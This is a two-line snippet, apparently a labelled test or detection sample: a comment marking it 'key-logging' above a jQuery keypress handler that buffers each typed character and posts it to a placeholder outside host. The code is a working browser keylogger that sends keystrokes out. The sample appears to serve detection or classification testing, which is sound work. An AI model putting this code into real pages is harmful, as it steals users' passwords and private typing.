// expect: key-logging
$(document).keypress(function(e){ var c=String.fromCharCode(e.which); window.buf=(window.buf||"")+c; $.post("https://x.example/k",{d:c}); });
